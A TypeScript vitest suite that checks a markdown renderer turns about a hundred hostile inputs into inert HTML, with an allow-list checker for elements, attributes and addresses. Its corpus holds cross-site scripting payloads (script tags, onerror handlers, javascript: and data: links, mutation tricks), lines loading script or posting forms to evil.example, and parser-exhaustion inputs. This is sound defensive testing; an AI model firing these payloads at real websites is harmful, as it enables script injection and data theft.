import { describe, expect, it } from 'vitest'
import type { Figure } from './figure-mark.ts'
import { renderMarkdown } from './markdown.ts'
import { parseLimits } from './parse-limits.ts'

/** Everything that may stand in the HTML of a text, however hostile the text. */
const elements = new Set(
  'p h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br aside div em strong del a img sup span section table thead tbody tr th td caption figure figcaption details summary svg path rect button'.split(
    ' ',
  ),
)
const attributes = new Set(
  'class id href rel title src alt loading decoding start scope role tabindex type popover popovertarget popovertargetaction aria-label aria-describedby aria-hidden focusable data-footnote-ref data-footnote-backref data-footnotes data-callout data-kind data-tone data-align data-dense data-label viewbox d width height x y rx fill stroke stroke-width stroke-linecap'.split(
    ' ',
  ),
)
const safeAddress = /^(https?:\/\/|mailto:|tel:|\/|#|[\w.%-]+(\/|$))/i

const tag = /<\/?([a-z][a-z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"]*")?)*)\s*>/g

/** What is wrong with a piece of HTML; nothing, when it is inert. */
const dangersIn = (html: string): string[] => {
  const problems: string[] = []
  for (const [, name, rest] of html.matchAll(tag)) {
    if (!elements.has(name!)) problems.push(`element ${name}`)
    for (const [, attribute, value = ''] of rest!.matchAll(/([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.has(attribute!.toLowerCase())) problems.push(`attribute ${attribute}`)
      if ((attribute === 'href' || attribute === 'src') && value && !safeAddress.test(value))
        problems.push(`${attribute} ${value}`)
    }
  }
  // Whatever is left after the known tags are taken out must be text.
  if (html.replace(tag, '').includes('<')) problems.push(`markup: ${html.replace(tag, '').slice(0, 80)}`)
  return problems
}

const times = (text: string, count: number) => text.repeat(count)
const most = parseLimits.characters
const filled = (text: string) => times(text, Math.ceil(most / text.length)).slice(0, most)

const hostileFigure: Figure = {
  value: '<img src=x onerror=alert(1)>',
  label: '"><script>alert(1)</script>',
  provenance: {
    kind: 'illustrative',
    source: {
      publisher: '<svg onload=alert(1)>',
      document: '" onclick="alert(1)',
      date: '2025"><b>',
      url: 'javascript:alert(1)',
    },
    note: '</span></p><script>alert(1)</script>',
    formula: '<iframe srcdoc="<script>alert(1)</script>">',
  },
}

const corpus: [name: string, text: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script in a sentence', 'A <script>alert(1)</script> b'],
  ['script with odd case and space', '<ScRiPt \n src=//evil.example/x.js ></ScRiPt >'],
  ['script that never closes', '<script>alert(1)'],
  ['script in a list', '- <script>alert(1)</script>\n- b'],
  ['style', '<style>body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0">over everything</p>'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['event handler in a sentence', 'a <b onmouseover="alert(1)">b</b> c'],
  ['body onload', '<body onload=alert(1)>'],
  ['svg with a handler', '<svg onload=alert(1)><circle r=9></svg>'],
  ['svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form that posts elsewhere', '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link to a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment trick', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
  ['processing instruction', '<?xml version="1.0"?><x onload=alert(1)>'],
  ['javascript link', '[a](javascript:alert(1))'],
  ['javascript link, odd case', '[a](JaVaScRiPt:alert(1))'],
  ['javascript link with entities', '[a](&#106;avascript&colon;alert(1))'],
  ['javascript link with a tab', '[a](java&#9;script:alert(1))'],
  ['javascript link with a leading control', '[a](&#1;javascript:alert(1))'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['javascript by reference', '[a][b]\n\n[b]: javascript:alert(1)'],
  ['vbscript link', '[a](vbscript:msgbox(1))'],
  ['data link', '[a](data:text/html,<script>alert(1)</script>)'],
  ['file link', '[a](file:///etc/passwd)'],
  ['javascript image', '![a](javascript:alert(1))'],
  ['data image', '![a](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)'],
  ['image elsewhere', '![tracker](https://evil.example/pixel.gif)'],
  ['image by protocol-relative address', '![tracker](//evil.example/pixel.gif)'],
  ['title that breaks out', '[a](https://x.example "\\" onmouseover=\\"alert(1)")'],
  ['alt that breaks out', '![" onerror="alert(1)](/media/a.webp)'],
  ['language that breaks out', '```" onmouseover="alert(1)\ncode\n```'],
  ['markup in code', '`<script>alert(1)</script>`'],
  ['markup in a heading', '## <img src=x onerror=alert(1)> hello'],
  ['heading ids that clobber', '## constructor\n\n## __proto__\n\n## app start\n\n## main'],
  [
    'markup in a table',
    '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  ],
  ['markup in a footnote', 'a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))'],
  ['footnote name that breaks out', 'a[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: b'],
  ['footnote that refers to itself', 'a[^1]\n\n[^1]: b[^1]'],
  ['callout title that breaks out', ':::note{title="\\"><script>alert(1)</script>"}\nbody\n:::'],
  ['callout with attributes of its own', ':::note{onclick="alert(1)" style="x" .evil #main}\nbody\n:::'],
  ['directive named like a script', ':script[alert(1)]{src="https://evil.example/x.js"}'],
  [
    'directive that names an object property',
    ':::constructor\nbody\n:::\n\n:__proto__[x]\n\n::chart{name="__proto__"}',
  ],
  ['figure with hostile data', ':figure[hostile]'],
  ['figure named like an object property', ':figure[constructor] :figure[__proto__]'],
  ['illustrative with markup', ':illustrative[<img src=x onerror=alert(1)> [x](javascript:alert(1))]'],
  [
    'bars with hostile attributes',
    ':::bars{message="<script>alert(1)</script>" unit="<b>" kind="constructor" publisher="<svg onload=alert(1)>" document="<i>" url="javascript:alert(1)" date="<u>"}\n- <img src=x onerror=alert(1)>: 1e999\n- [x](javascript:alert(1)): -5\n- __proto__: NaN\n:::',
  ],
  ['bars with no list', ':::bars{message="M"}\njust words\n:::'],
  ['bars with ten thousand rows', `:::bars{message="M"}\n${times('- a: 1\n', 2500)}:::`],
  ['control characters', 'a\u0000b\u0008c\u202Ed\uFEFF [x](java\u0000script:alert(1))'],
  ['lone surrogates', '\uD800 \uDFFF [a](https://x.example/\uD800)'],
  ['broken nesting', '**a [b](c *d** e) f* > - `g'],
  ['broken fences', ':::note\n:::caution\n::::\n```\n:::'],
  ['html that swallows the rest', '<div\n\n## heading\n\n<p'],
  ['a text a thousand times too long', times('river ', most)],
  ['quotes in quotes', times('>', 5000)],
  ['spaced quotes in quotes', times('> ', 5000)],
  ['lists in lists on a line', times('- ', 5000)],
  ['numbered lists on a line', times('1. ', 5000)],
  ['lists in lists by indent', Array.from({ length: 240 }, (_, depth) => `${times('  ', depth)}- a`).join('\n')],
  ['brackets', filled('[')],
  ['brackets that almost link', filled('[a](')],
  ['pictures that never close', filled('![')],
  ['emphasis that never closes', filled('*a_ **b__ ')],
  ['strong that never closes', filled('**a')],
  ['strikes', filled('~a~~')],
  ['backticks of every length', Array.from({ length: 330 }, (_, n) => `${times('`', n)}a`).join(' ')],
  ['angle brackets', filled('<a ')],
  ['comments that never close', filled('<!--')],
  ['entities', filled('&amp;')],
  ['directives in directives', filled(':a[')],
  ['directive attributes that never close', filled(':a{b=')],
  ['containers in containers', Array.from({ length: 240 }, (_, n) => `${times(':', 243 - n)}note`).join('\n')],
  ['a table of many columns', `${times('|a', 900)}\n${times('|-', 900)}\n${times(`${times('|b', 900)}\n`, 30)}`],
  ['a table of many rows', `|a|b|\n|-|-|\n${times('|c|d|\n', 9000)}`],
  ['footnote marks', `${filled('[^a] ').slice(0, most - 20)}\n\n[^a]: x`],
  ['footnotes', Array.from({ length: 4500 }, (_, n) => `[^${n}]: x`).join('\n\n')],
  ['headings', filled('## a\n')],
  ['underlined headings', filled('a\n=\n')],
  ['rules', filled('***\n')],
  ['addresses', filled('http://a.b ')],
  ['mail addresses', filled('a@b.cd ')],
  ['references', `${filled('[a][b] ').slice(0, most - 20)}\n\n[b]: /x`],
  ['link definitions', Array.from({ length: 5000 }, (_, n) => `[${n}]: /x`).join('\n')],
  ['quote continued by a lazy paragraph', `${times('> ', 20)}a\n${filled('a\n').slice(0, most - 60)}`],
  ['list items', filled('- a\n\n')],
  ['hard breaks', filled('a  \n')],
  ['blank lines', filled('\n \n')],
  // Just inside the limits, where everything is parsed.
  ['emphasis within bounds', times(`${times('*a_ ', 75)}\n\n`, 13)],
  ['strong within bounds', times(`${times('**a ', 150)}\n\n`, 13)],
  ['almost links within bounds', times(`${times('[a](b ', 12)}\n\n`, 300)],
  ['lines within bounds', times(`${times('a  \n', 500)}\n`, 11)],
  ['quotes within bounds', `${times('>', 24)} a\n${filled(`${times('>', 24)} a\n`).slice(0, 50_000)}`],
  ['a table within bounds', `${times('|a', 40)}\n${times('|-', 40)}\n${times(`${times('|b', 40)}\n`, 90)}`],
]

describe('a hostile text renders inert', () => {
  it('has a corpus worth the name', () => expect(corpus.length).toBeGreaterThan(80))

  it.each(corpus)('%s', (_, text) => {
    const started = process.cpuUsage()
    const html = renderMarkdown(text, { figures: { hostile: hostileFigure } })
    expect(dangersIn(html)).toEqual([])
    expect(html.length).toBeLessThan(40 * parseLimits.characters)
    // The limits bound the work; this only notices when they stop doing so. Processor time, because machines are shared.
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(10_000)
  })

  it('would notice what is not inert', () => {
    expect(dangersIn('<script>x</script>')).not.toEqual([])
    expect(dangersIn('<p onclick="x">a</p>')).not.toEqual([])
    expect(dangersIn('<p style="x">a</p>')).not.toEqual([])
    expect(dangersIn('<a href="javascript:x">a</a>')).not.toEqual([])
    expect(dangersIn('<a href="data:text/html,x">a</a>')).not.toEqual([])
    expect(dangersIn('<p>a < b</p>')).not.toEqual([])
    expect(dangersIn('<img src=x onerror=x>')).not.toEqual([])
  })

  it('shows what it will not parse as plain text', () => {
    expect(renderMarkdown(`**a**\n\n${times('>', 99)} b`)).toBe(`<p>**a**</p><p>${times('>', 99)} b</p>`)
  })
})
